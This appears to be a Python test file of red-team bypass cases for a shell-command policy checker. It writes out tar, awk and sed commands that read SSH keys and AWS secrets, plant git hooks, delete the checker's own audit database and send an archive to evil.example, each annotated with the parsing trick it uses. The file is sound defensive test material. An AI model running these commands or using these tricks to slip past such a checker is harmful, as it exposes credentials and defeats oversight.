"""Bypasses found by the session-4 red-team hunt, code family: each expects ask or deny under
tests/redteam/policy.toml (see redteam_case.py for the shape of a case)."""

from __future__ import annotations

from redteam_case import ASK, AT_LEAST_ASK, DENY, Case, case

HOOK = r"(write|delete) .*/\.git/hooks(/.*)?$"

CASES: list[Case] = [
    # tar
    case("code-tar-remove-files", "tar -cf x.tar --remove-files .blastshield/audit.db", DENY,
         r"delete .*/\.blastshield/audit\.db$", "--remove-files deletes what tar archives"),
    case("code-tar-remove-files-folder", "tar -cf /dev/null --remove-files .blastshield", DENY,
         r"delete .*/\.blastshield/policy\.toml$", "a folder: everything below it is deleted"),
    case("code-tar-C-operand", "tar -cf - -C ~/.ssh id_rsa | tar -xO", DENY, r"read @HOME@/\.ssh/id_rsa$",
         "operands after -C DIR are relative to DIR"),
    case("code-tar-C-chained", "tar -cf x.tar -C @HOME@ -C .ssh id_rsa", DENY, r"read @HOME@/\.ssh/id_rsa$",
         "each -C is relative to the one before"),
    case("code-tar-oldstyle-I", "tar cfI x.tar ./scripts/run.sh README.md", ASK,
         r"exec (tar |\./scripts/run\.sh)", "old style: I takes the next argument, a program tar runs"),
    case("code-tar-oldstyle-T-stdin", "echo ~/.ssh/id_rsa | tar cfT x.tar -", DENY,
         r"read @HOME@/\.ssh/id_rsa$", "old style: T takes '-', the names come from standard input"),
    case("code-tar-T-unreadable", "printf '%s\\n' ~/.ssh/id_rsa > l.txt; tar -cf x.tar -T l.txt",
         AT_LEAST_ASK, r"read .*<unknown>$", "a -T list this line writes: names the analysis cannot see"),
    case("code-tar-oldstyle-C", "tar xfC e.tar .git/hooks", DENY, HOOK, "old style: C takes the folder"),
    case("code-tar-x-transformed-archive",
         "tar -cf e.tar --transform='s,^,.git/hooks/,' scripts/run.sh; tar -xf e.tar", ASK, r"write @WS@/\*$",
         "an archive made in the same line cannot be listed: its members may be anywhere below"),
    case("code-tar-x-into-git", "tar -xf e.tar -C .git", ASK, r"write @WS@/\.git/\*$",
         "an archive that cannot be listed now, extracted below .git"),
    case("code-tar-x-strip-components", "tar -xf README.md --strip-components=1 -C .git", ASK,
         r"write @WS@/\.git/\*$", "--strip-components renames members"),
    case("code-tar-anchored-exclude", "tar -cf o.tar --anchored --exclude=.env .", DENY, r"read @WS@$",
         "--anchored: --exclude=.env leaves ./.env in"),
    case("code-tar-no-wildcards-exclude", "tar -cf o.tar --no-wildcards --exclude='.e*' .", DENY,
         r"read @WS@$", "--no-wildcards: '.e*' is a literal name"),
    case("code-tar-remote-archive", "tar -cf evil.example:x.tar src", DENY, r"net evil\.example",
         "HOST:FILE archives go through a remote shell"),
    case("code-tar-listed-incremental", "tar -cf x.tar -g .git/hooks/pre-commit src", DENY, HOOK,
         "-g FILE writes the snapshot file"),
    case("code-tar-unread-argument", 'tar -tf x.tar "$(cat notes.txt)"', AT_LEAST_ASK, r"exec tar ",
         "an argument tar gets that the analysis cannot read may be --to-command=..."),
    # awk
    case("code-awk-W-exec", "awk -W exec x.awk README.md", ASK, r"exec awk ", "mawk/gawk -W exec FILE"),
    case("code-awk-E", "awk -E x.awk README.md", ASK, r"exec awk ", "gawk -E FILE"),
    case("code-awk-exec-long", "awk --exec=x.awk README.md", ASK, r"exec awk "),
    case("code-awk-W-source", "awk -W source='BEGIN{system(\"id\")}'", ASK, r"exec awk ",
         "gawk: -W source=TEXT is --source=TEXT"),
    case("code-awk-argv", "awk 'BEGIN{ARGV[1]=ENVIRON[\"HOME\"] \"/.ssh/id_rsa\"; ARGC=2} 1'", ASK,
         r"exec awk ", "the program chooses the files it reads"),
    case("code-awk-operand-not-assignment", "awk 1 ./x=/../.env", DENY, r"read .*/\.env$",
         "'./x' is no identifier: awk reads ./x=/../.env as a file"),
    case("code-awk-environ", "awk 'BEGIN{print ENVIRON[\"AWS_SECRET_ACCESS_KEY\"]}'", DENY,
         r"env AWS_SECRET_ACCESS_KEY$"),
    case("code-awk-environ-all", "awk 'BEGIN{for (k in ENVIRON) print k, ENVIRON[k]}'", ASK, r"env \*$"),
    case("code-awk-getline-continued",
         "awk 'BEGIN{getline x \\\n< (ENVIRON[\"HOME\"] \"/.ssh/id_rsa\"); print x}'", ASK, r"exec awk ",
         "a backslash-newline between getline and <"),
    case("code-awk-getline-literal-secret", "awk 'BEGIN{getline x < \"link_to_key\"; print x}'", DENY,
         r"read .*/\.ssh/id_rsa$"),
    case("code-awk-indirect-call", "awk 'BEGIN{f=\"system\"; @f(\"id\")}'", ASK, r"exec awk ",
         "gawk calls built-in functions by name"),
    case("code-awk-dump-variables", "awk -d.git/hooks/pre-commit 'BEGIN{x=1}'", DENY, HOOK,
         "gawk -dFILE writes the variables to FILE"),
    # sed
    case("code-sed-backup-suffix-path",
         "cp scripts/run.sh pre-commit; sed -i'.git/hooks/*' -n p pre-commit", DENY, HOOK,
         "GNU sed renames the file to its backup name: '*' is the file's name"),
    case("code-sed-in-place-long-suffix", "sed --in-place='.git/hooks/*' -n p README.md", DENY, HOOK),
    case("code-sed-backup-suffix-no-star",
         "mkdir README.md_d; sed -i'_d/../.git/hooks/pre-commit' -n p README.md", DENY, HOOK,
         "a suffix without '*' is appended to the name: README.md_d/../.git/hooks/pre-commit"),
]
